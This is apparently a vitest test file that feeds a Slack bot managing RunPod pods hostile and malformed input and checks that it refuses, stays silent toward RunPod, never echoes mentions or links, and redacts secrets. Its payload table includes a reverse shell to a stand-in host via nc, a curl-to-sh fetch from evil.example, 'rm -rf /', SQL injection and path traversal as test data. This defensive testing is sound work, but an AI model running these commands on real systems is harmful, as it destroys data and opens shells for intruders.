/**
 * Hostile and malformed input: slash-command text, mentions, interactivity payloads. Every
 * answer is the help, a refusal or a plain answer; nothing crashes, nothing reaches RunPod, no
 * reply turns what someone typed into a mention or a link, and no secret leaves the bot.
 */
import { afterEach, describe, expect, it } from 'vitest';
import type { FakeSlack} from '../helpers/fake-slack.js';
import { buttonClick, fakeBotToken, SIGNING_SECRET, signedAction, signedCommand, signedEvent, slashCommand } from '../helpers/fake-slack.js';
import { INTERNAL_TEXT, leaked, seeded } from '../helpers/faults.js';
import { eventually, runCommand, startHarness, type Harness, type HarnessOptions } from '../helpers/harness.js';
import { startSlackWorld, type RunningSlack, type SlackWorld } from '../helpers/slack-app.js';

const MUTATIONS = ['podFindAndDeployOnDemand', 'podResume', 'podStop', 'podTerminate'];

/** Markup a reply must never carry back from what someone typed (Slack would ping or link it). */
const DANGEROUS = ['<!', '<@U123', '<@u123', '<http://x', '<#C0HOSTILE', '<#c0hostile'];

/** Payloads, each with at least one visible character that no valid argument contains. */
const HOSTILE: Record<string, string> = {
  '10k characters': 'A'.repeat(10_000),
  '10k of emoji': '🚀'.repeat(5_000),
  'right-to-left': '\u202Etrats\u202C \u05E2\u05E6\u05D5\u05E8 \u0627\u0628\u062F\u0623',
  emoji: '👩‍💻🔥🧪',
  'combining marks': 'Z\u0337\u0322\u0349a\u0334\u035Al\u0338g\u0335o\u0336',
  'zero-width': 'st\u200Bart\u200C\u200D\u2060',
  'BOM and zero-width': '\uFEFF\u200Bstop',
  quotes: `"'\`'" “smart” ‘quotes’`,
  'shell ;': '; rm -rf /',
  'shell $()': '$(reboot)',
  backticks: '`reboot`',
  pipe: '| nc 10.0.0.1 4444 -e /bin/sh',
  '&&': '&& curl http://evil.example/x.sh | sh',
  newlines: 'x\nstop\r\nterminate confirmed',
  'Slack link': '<http://x|y>',
  'Slack mention': '<@U123>',
  '@channel': '<!channel>',
  '@here, @everyone, #channel': '<!here> <!everyone> <#C0HOSTILE|general>',
  'NUL bytes': 'a\u0000b\u0000',
  'a lone NUL': '\u0000',
  'format strings': '%s %n %x {{7*7}} ${7*7}',
  SQL: "'; DROP TABLE audit; --",
  'path traversal': '../../../../etc/passwd',
  'ANSI escapes': '\u001b[31mred\u001b[0m',
  'a lone surrogate': '\uD800x',
};

const VERBS = ['start', 'stop', 'status', 'logs', 'keep', 'troubleshoot', 'terminate', 'forget-host-key', 'restart', 'doctor', 'costs', 'history', 'help', 'up', 'down', 'log', 'ts', 'why', 'start new-pod'];

interface Violation {
  input: string;
  rule: 'crash' | 'echo' | 'runpod' | 'shape';
  detail: string;
}

function describeInput(text: string): string {
  const shown = JSON.stringify(text);
  return shown.length > 80 ? `${shown.slice(0, 77)}…"` : shown;
}

/** Runs each text as a /monai command and returns the rules it broke. */
async function probe(harness: Harness, texts: readonly string[], user = 'U0ALICE'): Promise<Violation[]> {
  const violations: Violation[] = [];
  for (const text of texts) {
    const before = harness.sim.calls.length;
    const { surface, text: reply } = await runCommand(harness, text, undefined, { user });
    const input = describeInput(text);
    if (reply.includes(INTERNAL_TEXT)) violations.push({ input, rule: 'crash', detail: reply.slice(0, 200) });
    for (const markup of DANGEROUS) {
      if (reply.includes(markup)) violations.push({ input, rule: 'echo', detail: `${markup} in ${JSON.stringify(reply.slice(Math.max(0, reply.indexOf(markup) - 40), reply.indexOf(markup) + 40))}` });
    }
    const calls = harness.sim.calls.slice(before).flatMap((call) => call.fields);
    if (calls.length > 0) violations.push({ input, rule: 'runpod', detail: calls.join(',') });
    if (surface.posts.length !== 0 || surface.ephemerals.length !== 1) {
      violations.push({ input, rule: 'shape', detail: `${surface.posts.length} posts, ${surface.ephemerals.length} private replies` });
    }
  }
  return violations;
}

/** Seeded strings of hostile pieces, each with at least one character no valid argument has. */
function generated(count: number, seed: number): string[] {
  const random = seeded(seed);
  const pick = <T>(items: readonly T[]): T => items[Math.floor(random() * items.length)]!;
  const pieces = [
    'a', 'Z', '0', '9', ' ', '  ', '\t', '\n', '\r\n', ';', '|', '&', '$', '(', ')', '`', '"', "'", '\\', '<', '>', '@', '!', '#',
    '*', '_', '~', '{', '}', '%', '/', '.', ',', '-', '\u0000', '\u0007', '\u001b', '\u200B', '\u200D', '\u202E', '\u2066', '\uFEFF',
    '\u0301', '\u0336', '🚀', '👩‍💻', 'ﷺ', 'ß', 'İ', 'ﬁ', '\uD800', '\uDFFF', 'start', 'stop', 'terminate', 'confirmed', 'new-pod',
    '1h', '200', 'logs', 'deepgrow', '<!channel>', '<!here>', '<@U123>', '<@U123|bob>', '<http://x|y>', '<#C0HOSTILE>',
    'rm -rf /', '$(reboot)', '`id`', '| nc x 1', '&& sh', '%n', '${IFS}',
  ];
  const forced = [';', '|', '&', '$', '`', '<', '>', '"', "'", '\\', '\u0000'];
  const verbs = [...VERBS, '', '', ''];
  return Array.from({ length: count }, () => {
    const parts = Array.from({ length: 1 + Math.floor(random() * 12) }, () => pick(pieces));
    parts.splice(Math.floor(random() * (parts.length + 1)), 0, pick(forced));
    const verb = pick(verbs);
    const payload = parts.join('');
    return verb ? `${verb} ${payload}` : payload;
  });
}

describe('slash-command text', () => {
  let harness: Harness | undefined;
  afterEach(async () => {
    await harness?.close();
    harness = undefined;
  });

  it('empty and blank text answers with the help, without calling RunPod', async () => {
    harness = await startHarness();
    for (const text of ['', '   ', '\n\t \r\n', '\uFEFF']) {
      const { surface, text: reply } = await runCommand(harness, text);
      expect(surface.ephemerals).toHaveLength(1);
      expect(reply).toContain('*What I can do*');
    }
    expect(harness.sim.calls).toHaveLength(0);
  });

  it('hand-written hostile payloads, alone and after every verb: help, refusal or answer; no crash, no RunPod, no echoed markup', async () => {
    harness = await startHarness();
    const texts = Object.values(HOSTILE).flatMap((payload) => [payload, ...VERBS.map((verb) => `${verb} ${payload}`)]);

    const violations = await probe(harness, texts);

    expect(violations).toEqual([]);
    expect(harness.sim.calls).toHaveLength(0);
    expect(harness.logs()).not.toContain('"level":"error"');
  });

  it('the same payloads from someone the bot does not know, where refusals apply', async () => {
    harness = await startHarness({ env: { ALLOWED_USER_IDS: 'U0ALICE', ADMIN_USER_IDS: 'U0ADMIN', ALLOWED_CHANNEL_IDS: 'C0LAB' } });
    const texts = Object.values(HOSTILE).flatMap((payload) => VERBS.map((verb) => `${verb} ${payload}`));

    const violations = await probe(harness, texts, 'U0MALLORY');

    expect(violations).toEqual([]);
    expect(harness.sim.calls).toHaveLength(0);
  });

  it('300 seeded generated strings: the same guarantees', async () => {
    harness = await startHarness();
    const texts = generated(300, 0x5eed_2026);

    const violations = await probe(harness, texts);

    expect(violations).toEqual([]);
    expect(harness.sim.calls).toHaveLength(0);
    expect(harness.logs()).not.toContain('"level":"error"');
  });

  it('valid commands with hostile text around them are refused, not half-run', async () => {
    harness = await startHarness();
    harness.sim.addPod({ name: 'monai-label', desiredStatus: 'RUNNING' });
    await eventually(() => harness!.sim.podByName('monai-label')?.runtime);
    const before = harness.sim.calls.length;

    for (const text of ['stop; rm -rf /', 'stop && terminate confirmed', 'terminate confirmed', 'stop\u0000', 'stop `reboot`', 'start $(reboot)', 'keep 1h; stop', 'logs 5 | nc x 1']) {
      const { text: reply } = await runCommand(harness, text);
      expect(reply, text).not.toContain(INTERNAL_TEXT);
    }

    const mutations = harness.sim.calls.slice(before).filter((call) => call.fields.some((field) => MUTATIONS.includes(field)));
    expect(mutations).toEqual([]);
    expect(harness.sim.podByName('monai-label')?.desiredStatus).toBe('RUNNING');
  });

  it('/monai history lists hostile commands without turning them into mentions or links', async () => {
    harness = await startHarness();
    for (const payload of ['<!channel> wake up', 'start <@U123>', 'logs <http://x|y>', 'why `is` <!here>']) await runCommand(harness, payload);

    const { text } = await runCommand(harness, 'history');

    expect(text).toContain('The last 4 actions');
    for (const markup of DANGEROUS) expect(text).not.toContain(markup);
  });
});

describe('through the signed HTTP receiver', () => {
  let fake: FakeSlack;
  let harness: Harness;
  let running: RunningSlack;
  let world: SlackWorld | undefined;
  afterEach(async () => {
    await world?.close();
    world = undefined;
  });

  async function open(options: HarnessOptions = {}) {
    world = await startSlackWorld(options);
    ({ fake, harness, running } = world);
  }

  it('slash commands with hostile text: 200, one private answer each, nothing echoed as markup, no RunPod call', async () => {
    await open();
    const texts = [
      HOSTILE['10k characters']!,
      `start ${HOSTILE['NUL bytes']}`,
      `stop${HOSTILE['newlines']}`,
      `logs ${HOSTILE['@channel']}`,
      `${HOSTILE['Slack mention']} stop`,
      `troubleshoot ${HOSTILE['Slack link']} ${HOSTILE['@here, @everyone, #channel']}`,
      `keep ${HOSTILE['right-to-left']}`,
      `terminate ${HOSTILE['shell $()']}`,
      HOSTILE['zero-width']!,
    ];
    for (const [index, text] of texts.entries()) {
      const response = await signedCommand(running.url, slashCommand(fake, text));
      expect(response.status, describeInput(text)).toBe(200);
      const reply = await fake.waitFor(() => fake.responses[index]);
      expect(reply.body['response_type']).toBe('ephemeral');
      const shown = JSON.stringify(reply.body);
      expect(shown).not.toContain(INTERNAL_TEXT);
      for (const markup of DANGEROUS) expect(shown, `${describeInput(text)} → ${markup}`).not.toContain(markup);
    }
    expect(fake.responses).toHaveLength(texts.length);
    expect(fake.callsTo('chat.postMessage')).toHaveLength(0);
    expect(harness.sim.calls).toHaveLength(0);
  });

  it('a mention carrying @channel: the public answer in the thread does not ping the channel', async () => {
    await open();
    const response = await signedEvent(running.url, {
      type: 'app_mention',
      user: 'U0ALICE',
      channel: 'C0LAB',
      ts: '1700000000.000100',
      text: '<@U0BOT> <!channel> zzqx <@U123> <http://x|y>',
    });
    expect(response.status).toBe(200);

    const answer = await fake.waitFor(() => fake.callsTo('chat.postMessage')[0]);
    expect(answer.args['thread_ts']).toBe('1700000000.000100');
    const shown = JSON.stringify({ text: answer.args['text'], blocks: answer.args['blocks'] });
    for (const markup of DANGEROUS) expect(shown, markup).not.toContain(markup);
  });

  describe('interactivity payloads of unexpected shape', () => {
    const cases: [string, (fake: FakeSlack) => Record<string, unknown>][] = [
      ['no actions', (f) => ({ ...buttonClick(f, 'stop'), actions: [] })],
      ['a value that is not JSON', (f) => withAction(buttonClick(f, 'stop'), { value: 'stop' })],
      ['a JSON value without command', (f) => withAction(buttonClick(f, 'stop'), { value: JSON.stringify({ cmd: 'stop' }) })],
      ['a JSON value that is null', (f) => withAction(buttonClick(f, 'stop'), { value: 'null' })],
      ['a command that is a list', (f) => withAction(buttonClick(f, 'stop'), { value: JSON.stringify({ command: ['stop'] }) })],
      ['a command that is a number', (f) => withAction(buttonClick(f, 'stop'), { value: JSON.stringify({ command: 7 }) })],
      ['a command that is an object', (f) => withAction(buttonClick(f, 'stop'), { value: JSON.stringify({ command: { toString: 'stop' } }) })],
      ['a command 10k long', (f) => withAction(buttonClick(f, 'stop'), { value: JSON.stringify({ command: `stop${' '.repeat(10_000)}` }) })],
      ['an action_id not starting with monai:', (f) => withAction(buttonClick(f, 'stop'), { action_id: 'evil:0:stop' })],
      ['a select menu instead of a button', (f) => withAction(buttonClick(f, 'stop'), { type: 'static_select', selected_option: { value: JSON.stringify({ command: 'stop' }) } })],
      ['a payload from another team', (f) => buttonClick(f, 'stop', 'U0CAROL', 'C0LAB', 'T0EVIL')],
    ];

    function withAction(payload: Record<string, unknown>, change: Record<string, unknown>): Record<string, unknown> {
      const [action] = payload['actions'] as Record<string, unknown>[];
      return { ...payload, actions: [{ ...action, ...change }] };
    }

    for (const [name, build] of cases) {
      it(`${name}: HTTP 200, nothing done, a “refused” warning`, async () => {
        await open();
        harness.sim.addPod({ name: 'monai-label', desiredStatus: 'RUNNING' });
        await eventually(() => harness.sim.podByName('monai-label')?.runtime);
        const logged = harness.logs().length;

        const response = await signedAction(running.url, build(fake));

        expect(response.status).toBe(200);
        const warning = await eventually(
          () => harness.logs().slice(logged).split('\n').find((line) => line.includes('"level":"warn"') && line.includes('refused')),
          3000,
        ).catch(() => undefined);
        expect(warning, 'a warning containing “refused” in the log').toBeDefined();
        await running.settle();
        expect(harness.sim.calls.filter((call) => call.fields.some((field) => MUTATIONS.includes(field)))).toEqual([]);
        expect(harness.sim.podByName('monai-label')?.desiredStatus).toBe('RUNNING');
        expect(harness.logs().slice(logged)).not.toContain('"level":"error"');
        expect(fake.callsTo('chat.postMessage')).toHaveLength(0);
        for (const reply of fake.responses) {
          expect(reply.body['response_type']).toBe('ephemeral');
          expect(String(reply.body['text'])).not.toContain(INTERNAL_TEXT);
        }
      });
    }
  });

  it('a “terminate confirmed” button clicked by a non-admin: refused privately naming the admin, pod untouched', async () => {
    await open({ env: { ADMIN_USER_IDS: 'U0ADMIN' } });
    const pod = harness.sim.addPod({ name: 'monai-label', volumeInGb: 30 });

    const response = await signedAction(running.url, buttonClick(fake, 'terminate confirmed', 'U0ALICE'));

    expect(response.status).toBe(200);
    const reply = await fake.waitFor(() => fake.responses[0]);
    expect(reply.body['response_type']).toBe('ephemeral');
    expect(reply.body['replace_original']).toBe(false);
    expect(String(reply.body['text'])).toContain('Only the bot’s admins can run `/monai terminate`. Ask <@U0ADMIN>.');
    await running.settle();
    expect(harness.sim.pods.has(pod.id)).toBe(true);
    expect(harness.sim.callsTo('terminate')).toHaveLength(0);
    expect(harness.logs()).toContain('request refused');
  });
});

describe('secrets on every path, failures included', () => {
  const BOT_TOKEN = fakeBotToken();
  const RUNPOD_KEY = 'hostile0runpod0key0zzzz9876';
  const DICOM_PASSWORD = 'd1c0m-pa55w0rd-s3cr3t';
  const SECRETS = [BOT_TOKEN, SIGNING_SECRET, RUNPOD_KEY, DICOM_PASSWORD];
  const ALL = SECRETS.join(' ');

  let world: SlackWorld | undefined;
  afterEach(async () => {
    await world?.close();
    world = undefined;
  });

  it('never reach the log, Slack, or any reply', async () => {
    world = await startSlackWorld({
      apiKey: RUNPOD_KEY,
      simulator: { apiKey: RUNPOD_KEY },
      env: {
        SLACK_BOT_TOKEN: BOT_TOKEN,
        DICOMWEB_USERNAME: 'orthanc',
        DICOMWEB_PASSWORD: DICOM_PASSWORD,
        ALLOWED_USER_IDS: 'U0ALICE',
        ADMIN_USER_IDS: 'U0ADMIN',
        LOG_LEVEL: 'debug',
      },
    });
    const { running } = world;
    const { url } = running;
    const f = world.fake;
    const h = world.harness;
    const replies = () => f.responses.length;

    // RunPod fails the deploy with an error that quotes every secret.
    h.sim.inject({ kind: 'error', message: `Invalid request: Authorization: Bearer ${RUNPOD_KEY}; ${ALL}` }, { operation: 'deploy' });
    await signedCommand(url, slashCommand(f, 'start'));
    await f.waitFor(() => running!.work.length === 1);
    await running.settle();
    expect([...f.messages.values()][0]?.text).toContain('[redacted]');

    // RunPod errors on the listing that echo the secrets, for /monai status and /monai doctor.
    h.sim.inject({ kind: 'error', message: `Something went wrong for ${ALL}`, code: 'INTERNAL_SERVER_ERROR' }, { operation: 'listPods', times: 8 });
    h.bot.snapshots.invalidate();
    await signedCommand(url, slashCommand(f, 'status'));
    await f.waitFor(() => replies() >= 1);
    await signedCommand(url, slashCommand(f, 'doctor'));
    await f.waitFor(() => running!.work.length === 3);
    await running.settle();

    // A revoked key: RunPod's 401, with the bot's request (and its Authorization header) in the error.
    h.sim.apiKey = 'revoked';
    h.bot.snapshots.invalidate();
    const before401 = replies();
    await signedCommand(url, slashCommand(f, 'status'));
    await f.waitFor(() => replies() > before401);
    h.sim.apiKey = RUNPOD_KEY;

    // Commands that quote the secrets: invalid (echoed reasons), refused (someone else), a troubleshooting question.
    for (const [text, user] of [
      [`logs ${DICOM_PASSWORD}`, 'U0ALICE'],
      [`start ${RUNPOD_KEY}`, 'U0ALICE'],
      [`${BOT_TOKEN}`, 'U0ALICE'],
      [`stop ${ALL}`, 'U0MALLORY'],
      ['status', 'U0MALLORY'],
      [`troubleshoot ${ALL}`, 'U0ALICE'],
    ] as const) {
      const count = replies();
      await signedCommand(url, slashCommand(f, text, user));
      await f.waitFor(() => replies() > count);
    }

    // Bad buttons that carry the secrets, and a mention that quotes them.
    const count = replies();
    await signedAction(url, { ...buttonClick(f, 'stop'), actions: [{ action_id: `evil:${RUNPOD_KEY}`, type: 'button', value: ALL, block_id: 'b', action_ts: '1' }] });
    await signedAction(url, buttonClick(f, `logs ${DICOM_PASSWORD}`, 'U0ALICE'));
    await signedAction(url, buttonClick(f, `terminate confirmed ${RUNPOD_KEY}`, 'U0MALLORY'));
    await signedAction(url, { ...buttonClick(f, 'stop'), actions: [{ action_id: 'monai:0:stop', type: 'button', value: JSON.stringify({ command: ALL.repeat(3) }), block_id: 'b', action_ts: '1' }] });
    await signedAction(url, buttonClick(f, `status ${ALL}`, 'U0ALICE', 'C0LAB', 'T0EVIL'));
    await signedEvent(url, { type: 'app_mention', user: 'U0ALICE', channel: 'C0LAB', ts: '1700000001.000100', text: `<@U0BOT> why ${ALL}` });
    await f.waitFor(() => replies() >= count + 3);
    await eventually(() => h.logs().includes('refused an unknown action'));
    await f.waitFor(() => f.callsTo('chat.postMessage').length >= 2);
    await running.settle();

    const outgoing = JSON.stringify({
      messages: [...f.messages.values()],
      responses: f.responses,
      calls: f.calls.filter((call) => call.method !== 'auth.test').map((call) => call.args),
    });
    expect(leaked(outgoing, SECRETS)).toEqual([]);
    expect(leaked(h.logs(), SECRETS)).toEqual([]);
    expect(f.calls.every((call) => call.token === BOT_TOKEN)).toBe(true);
    // The paths above did run and did meet the secrets.
    expect(outgoing).toContain('[redacted]');
    expect(h.logs()).toContain('[redacted]');
    expect(h.logs()).toContain('refused a button');
    expect(h.logs()).toContain('request refused');
    expect(h.logs()).toContain('refused a request from another workspace');
    expect(outgoing).not.toContain(INTERNAL_TEXT);
  });

  it('a mixed-case secret pasted into a command is not echoed back, not even lowercased', async () => {
    const password = 'Orth4nc-Pa55w0rd-MixedCase';
    world = await startSlackWorld({ env: { SLACK_BOT_TOKEN: BOT_TOKEN, DICOMWEB_USERNAME: 'orthanc', DICOMWEB_PASSWORD: password } });
    const { running, harness } = world;
    const f = world.fake;

    const texts = [`logs ${password}`, `start ${password}`, `keep ${password}`, `troubleshoot ${password}`];
    for (const [index, text] of texts.entries()) {
      await signedCommand(running.url, slashCommand(f, text));
      await f.waitFor(() => f.responses[index]);
    }

    const outgoing = JSON.stringify(f.responses).toLowerCase();
    expect(outgoing).toContain('[redacted]');
    expect(outgoing).not.toContain(password.toLowerCase());
    expect(harness.logs().toLowerCase()).not.toContain(password.toLowerCase());
    expect(harness.sim.calls).toHaveLength(0);
  });
});
